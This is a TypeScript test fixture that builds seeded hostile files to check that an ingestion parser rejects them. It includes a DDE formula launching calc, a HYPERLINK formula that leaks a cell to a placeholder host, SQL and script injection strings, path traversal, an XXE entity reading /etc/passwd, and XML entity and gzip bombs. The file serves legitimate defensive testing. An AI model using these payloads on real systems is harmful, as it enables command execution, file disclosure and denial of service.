/** Files with rows that mean harm. */
import { gzipSync } from 'node:zlib';
import { createRng, type Rng } from '../../src/util/rng.ts';
import type { Corruption } from '../../test/factories/corruptions.ts';

/** Hostile rows of a file: no more than any file may have without being refused whole. */
const hostileRowsAtOnce = 20;
const soundRowsAtOnce = 20;
const hugeFieldBytes = 10_000_000;
/** Every so many files one hostile row has a field of 10 MB. */
const hugeEvery = 50;

const formulas = [
  '=HYPERLINK("http://example.invalid/?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '=IMPORTXML("http://example.invalid","//a")',
];
const texts = [
  "'); drop table fact; --",
  '\\.',
  '\\N',
  '\\x00',
  '%s%s%n',
  '../../../../etc/passwd',
  '<script>alert(1)</script>',
  '__proto__',
  '{"$ne":1}',
  'A'.repeat(100_000),
  'NaN',
  '1e999',
  '9'.repeat(400),
  '-0',
  '0x10',
  '\u202eredro\u202c',
];
const controls = ['\u0000', '\u0000'.repeat(50), '\u0001', '\u0007\b', '\u000b\f', '\u001b[2J', '\u001f', '\u007f'];
/** No text in UTF-8, and bytes that windows-1252 does not use. */
const wrongBytes = [
  Buffer.from([0xff, 0xfe, 0x41, 0x00]),
  Buffer.from([0xc3, 0x28]),
  Buffer.from([0x81, 0x8d, 0x8f, 0x90, 0x9d]),
  Buffer.from([0xed, 0xa0, 0x80]),
  Buffer.from([0xf8, 0x88, 0x80, 0x80, 0x80]),
];

/** Returns rows one by one, the sound ones of a sample among them. */
interface Format {
  readonly profile: string;
  readonly head: Buffer;
  readonly rows: readonly Buffer[];
  /** Where a field may be put instead of another. */
  readonly separator: string;
  /** How a text stands in a field. */
  quote(text: string): string;
}

/**
 * Returns files with `count` hostile rows among sound ones, the same for the same seed: NUL and other control characters, wrong encodings, formulas, texts that are code elsewhere, fields of
 * 10 MB. A row is one of a sample with a field replaced. Behind them stand bombs: XML that grows by its entities or nests without end, and gzip that unpacks to a thousand times its size.
 */
export function hostileFiles(readFile: (path: string) => Buffer, seed: number, count: number): Corruption[] {
  const rng = createRng(seed).fork('hostile');
  const formats = formatsOf(readFile);
  const files: Corruption[] = [];
  for (let rows = 0; rows < count; rows += hostileRowsAtOnce) {
    const format = formats[files.length % formats.length]!;
    const lines = Array.from({ length: soundRowsAtOnce }, () => pick(rng, format.rows));
    for (let row = 0; row < Math.min(hostileRowsAtOnce, count - rows); row++) {
      const isHuge = row === 0 && files.length % hugeEvery === 0;
      const what = isHuge ? Buffer.alloc(hugeFieldBytes, 0x42) : evilText(format, rng);
      lines.splice(rng.nextInt(lines.length + 1), 0, withField(pick(rng, format.rows), format.separator, what, rng));
    }
    const bytes = Buffer.concat([format.head, ...lines.flatMap((line) => [line, Buffer.from('\n')])]);
    files.push({ name: `${files.length}: ${format.profile} hostile rows`, bytes, profile: format.profile });
  }
  return [...files, ...bombs(formats[0]!)];
}

function evilText(format: Format, rng: Rng): Buffer {
  const kind = rng.nextInt(4);
  if (kind === 0) return pick(rng, wrongBytes);
  const text = kind === 1 ? pick(rng, formulas) : kind === 2 ? pick(rng, texts) : pick(rng, controls);
  return Buffer.from(rng.nextInt(2) === 0 ? text : format.quote(text));
}

/** Puts something in the place of one field of a line. */
function withField(line: Buffer, separator: string, what: Buffer, rng: Rng): Buffer {
  const fields = line.toString('latin1').split(separator);
  const place = rng.nextInt(fields.length);
  fields[place] = what.toString('latin1');
  return Buffer.from(fields.join(separator), 'latin1');
}

function formatsOf(readFile: (path: string) => Buffer): Format[] {
  const linesOf = (path: string): Buffer[] =>
    readFile(path)
      .subarray(0, 200_000)
      .toString('latin1')
      .split('\n')
      .slice(0, -1)
      .map((line) => Buffer.from(line, 'latin1'));
  const [head, ...aurelia] = linesOf('data/sample/demo/aurelia-declarations.csv');
  return [
    {
      profile: 'aurelia',
      head: Buffer.concat([head!, Buffer.from('\n')]),
      rows: aurelia,
      separator: ';',
      quote: (text) => `"${text.replaceAll('"', '""')}"`,
    },
    {
      profile: 'borealis',
      head: Buffer.alloc(0),
      rows: linesOf('data/sample/demo/borealis-declarations.ndjson'),
      separator: ',',
      quote: (text) => JSON.stringify(text),
    },
  ];
}

function bombs({ head, rows }: Format): Corruption[] {
  const postal = 'corvia-postal-items';
  const open = '<ItemAttributes xmlns="urn:example:corvia:item-attributes">';
  const laughs = Array.from({ length: 12 }, (_, level) => {
    const content = level === 0 ? 'ha' : `&l${level - 1};`.repeat(10);
    return `<!ENTITY l${level} "${content}">`;
  }).join('');
  const xml = (name: string, text: string): Corruption => ({
    name: `XML bomb: ${name}`,
    bytes: Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n${text}`),
    profile: postal,
  });
  const gzip = (name: string, bytes: Buffer, profile: string): Corruption => ({
    name: `gzip bomb: ${name}`,
    bytes: gzipSync(bytes, { level: 9 }),
    profile,
  });
  const large = 80_000_000;
  return [
    xml('entities', `<!DOCTYPE a [${laughs}]>${open}<PostalItem><ItemID>&l11;</ItemID></PostalItem></ItemAttributes>`),
    xml('external', `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>${open}&x;</ItemAttributes>`),
    xml('depth', open + '<PostalItem>'.repeat(500_000)),
    xml('attributes', `${open}<PostalItem ${Array.from({ length: 200_000 }, (_, n) => `a${n}="1"`).join(' ')}/>`),
    xml('one text', `${open}<PostalItem><ItemID>${'A'.repeat(50_000_000)}</ItemID></PostalItem></ItemAttributes>`),
    xml('one name', `${open}<${'A'.repeat(50_000_000)}/></ItemAttributes>`),
    gzip('one field', Buffer.alloc(large, 0x41), 'aurelia'),
    gzip('line feeds', Buffer.concat([head, Buffer.alloc(large, 0x0a)]), 'aurelia'),
    gzip('a row and NUL', Buffer.concat([head, rows[0]!, Buffer.alloc(large)]), 'aurelia'),
    gzip('in gzip', gzipSync(Buffer.alloc(large), { level: 9 }), 'aurelia'),
    gzip('XML', Buffer.concat([Buffer.from(open), Buffer.alloc(large, 0x20)]), postal),
  ];
}

function pick<T>(rng: Rng, values: readonly T[]): T {
  return values[rng.nextInt(values.length)]!;
}
